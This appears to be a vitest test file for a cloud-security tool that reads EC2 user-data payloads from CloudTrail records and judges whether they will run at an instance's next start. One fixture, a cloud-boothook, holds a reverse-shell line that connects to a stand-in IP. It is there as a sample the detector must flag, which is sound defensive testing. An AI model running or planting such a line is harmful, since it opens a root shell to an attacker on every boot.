import { createHash } from 'node:crypto';
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Context } from '@/lib/context';
import { insertAlert, insertPerson } from '@/scripts/test-alerts';
import { openTestDatabase, type TestDatabase } from '@/scripts/test-database-client';
import { ACCOUNT, instanceSet, makeRecord, userDataChange } from '@/scripts/test-records';
import { attachPayload } from './attach-payload';
import { collectPayloads } from './collect-payloads';
import { getInstanceHistory } from '@/lib/usecase/instance/get-instance-history';
import { ingestPaths } from '@/lib/usecase/ingest/ingest-paths';
import { listAlertPayloads } from './list-alert-payloads';
import { listInstances } from '@/lib/usecase/instance/list-instances';
import { markGood } from '@/lib/usecase/instance/mark-good';
import { readGuidePayloads } from './read-guide-payloads';

const SCRIPT = '#!/bin/sh\necho ready\n';
const FILES = '#cloud-config\nwrite_files: [{path: /etc/cron.d/x, content: x}]\n';
const HOOK = '#cloud-boothook\n#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/443 0>&1\n';
const hash = (text: string) => createHash('sha256').update(text).digest('hex');

/** Launched with a script that its record shows; with files; without user data; with what nobody saw. */
const [SCRIPTED, FILED, BARE, UNSEEN] = ['i-0abc01', 'i-0abc02', 'i-0abc03', 'i-0abc04'] as const;

let test: TestDatabase;
let ana: Context;

beforeAll(async () => {
  test = await openTestDatabase();
  ana = await insertPerson(test.ctx, 'Ana');
  const launch = (instanceId: string, userData: string | null) =>
    makeRecord({
      eventId: `launch-${instanceId}`, eventName: 'RunInstances', at: '2024-07-01T08:00:00Z',
      request: { instanceType: 't3.micro', ...(userData !== null && { userData }) },
      extra: { responseElements: { instancesSet: { items: [{ instanceId }] } } },
    }); // prettier-ignore
  const base64 = (text: string) => Buffer.from(text).toString('base64');
  const all = [SCRIPTED, FILED, BARE, UNSEEN];
  const records = [
    launch(SCRIPTED, base64(SCRIPT)),
    launch(FILED, base64(FILES.replace('cron.d/x', 'motd'))),
    launch(BARE, null),
    launch(UNSEEN, '<sensitiveDataRemoved>'),
    makeRecord({ eventId: 'stop', eventName: 'StopInstances', at: '2024-08-01T12:03:30Z', request: instanceSet(...all) }),
    ...all.map((instanceId) =>
      makeRecord({
        eventId: `change-${instanceId}`, eventName: 'ModifyInstanceAttribute', at: '2024-08-01T12:04:18Z',
        request: userDataChange(instanceId, 'A'),
      }),
    ),
    makeRecord({ eventId: 'start', eventName: 'StartInstances', at: '2024-08-01T12:04:19Z', request: instanceSet(...all) }),
  ]; // prettier-ignore
  const file = path.join(test.ctx.home, 'records.json');
  await writeFile(file, JSON.stringify({ Records: records }));
  await ingestPaths(test.ctx, { paths: [file] });
  await collectPayloads(test.ctx);
  for (const instanceId of all) await insertAlert(test.db, instanceId, { instanceIds: [instanceId] });
  await insertAlert(test.db, 'several', { instanceIds: [SCRIPTED, BARE] });
});
afterAll(() => test.close());

const attach = (alertId: string, text: string) =>
  attachPayload(ana, { alertId, bytes: new TextEncoder().encode(text), how: 'paste' });

async function answers(alertId: string, instanceIds: readonly string[] = [alertId]) {
  const payloads = await listAlertPayloads(ana, { alertId });
  return readGuidePayloads(ana, { alert: { id: alertId, accountId: ACCOUNT, instanceIds }, payloads });
}

describe('a step of a guide that reads the payload', () => {
  it('has no content where nobody brought one, and the earlier one of the history where a record held it', async () => {
    expect(await answers(UNSEEN)).toEqual({
      known: [{ accountId: ACCOUNT, instanceId: UNSEEN, content: null }],
      more: 0,
    });
    const { known } = await answers(SCRIPTED);
    expect(known).toMatchObject([
      { content: { sha256: hash(SCRIPT), from: 'history', isChangedSince: true, good: null } },
    ]);
  });

  it('tells the verdict, the gravest findings and how it stands to the good version of what is attached', async () => {
    await attach(UNSEEN, HOOK);
    await markGood(ana, {
      accountId: ACCOUNT,
      instanceId: UNSEEN,
      sha256: hash(SCRIPT),
      note: '',
      evenIfNotSeen: true,
    });
    const { known } = await answers(UNSEEN);
    expect(known[0]?.content).toMatchObject({
      sha256: hash(HOOK),
      from: 'alert',
      verdict: { runsAtNextStart: 'yes', words: 'every boot' },
      as: 'root',
      isChangedSince: false,
      good: hash(SCRIPT),
    });
    expect(known[0]?.content?.findings[0]).toMatchObject({ severity: 'high', line: 3 });
  });

  it('says for each instance what is kept of it, and what was attached without saying of which', async () => {
    await attach('several', HOOK);
    const { known } = await answers('several', [
      SCRIPTED,
      BARE,
      ...Array.from({ length: 5 }, (_, at) => `i-0more${at}`),
    ]);
    expect(known.map(({ instanceId, content }) => [instanceId, content?.sha256 ?? null])).toEqual([
      [SCRIPTED, hash(SCRIPT)],
      [BARE, null],
      ['i-0more0', null],
      ['i-0more1', null],
      ['i-0more2', null],
      [null, hash(HOOK)],
    ]);
    expect(
      (
        await answers(
          'several',
          Array.from({ length: 7 }, (_, at) => `i-0more${at}`),
        )
      ).more,
    ).toBe(2);
  });
});

describe('files that are new to an instance', () => {
  const outcome = async (instanceId: string) => {
    await attach(instanceId, FILES);
    const [newest] = await listAlertPayloads(ana, { alertId: instanceId });
    const history = await getInstanceHistory(ana, {
      accountId: ACCOUNT,
      instanceId,
      show: 'all',
      before: null,
      page: 1,
    });
    const { known } = await answers(instanceId);
    const sort = { key: 'changes', desc: true } as const;
    const listed = await listInstances(ana, { text: instanceId, sort, page: 1, pageSize: 25 });
    return {
      alert: newest?.firstStarts.map(({ firstStart }) => firstStart.outcome),
      earlier: newest?.firstStarts[0]?.firstStart.earlier,
      instance: history.present.firstStart?.outcome,
      words: [
        history.present.verdict?.words,
        history.versions.items[0]?.verdict?.words,
        known[0]?.content?.verdict.words,
        listed.items[0]?.verdict?.words,
      ],
      pure: newest?.decoded.runsAtNextStart,
    };
  };

  it('are applied at the next start of one that was launched with a script, or with nothing', async () => {
    const applied = {
      alert: ['runs'],
      instance: 'runs',
      words: ['this once', 'this once', 'this once', 'this once'],
      pure: 'no',
    };
    expect(await outcome(SCRIPTED)).toEqual({ ...applied, earlier: hash(SCRIPT) });
    expect(await outcome(BARE)).toEqual({ ...applied, earlier: null });
  });

  it('are not applied on one that was launched with other files', async () => {
    expect(await outcome(FILED)).toMatchObject({
      alert: ['done'],
      instance: 'done',
      words: ['not again', 'not again', 'not again', 'not again'],
      pure: 'no',
    });
  });

  it('stay open on one of which nobody knows how it was launched', async () => {
    expect(await outcome(UNSEEN)).toMatchObject({
      alert: ['unknown'],
      words: ['first use', 'first use', 'first use', 'first use'],
    });
  });
});
